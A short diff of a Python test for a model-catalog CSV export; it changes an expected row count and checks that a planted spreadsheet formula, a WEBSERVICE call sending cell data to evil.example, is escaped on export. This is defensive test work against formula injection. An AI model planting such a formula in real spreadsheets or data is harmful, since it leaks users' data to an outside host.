@@ -82,7 +82,7 @@ def test_real_catalog_with_a_planted_formula_name(tmp_path):
     out = tmp_path / "vision.csv"
     export_csv(fetch_vision_models(planted).models, out)
     rows = {r["id"]: r for r in _rows(out.read_text(encoding="utf-8"))}
-    assert len(rows) == 171
+    assert len(rows) == 166  # the catalog README's vision count (strict rules, the default)
     assert rows["openai/gpt-4o"]["name"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"
     assert rows["openai/gpt-4o"]["description"] == "'@now read this"
     risky = [v for r in rows.values() for v in r.values() if v and v[0] in "=+@\t\r\n"]
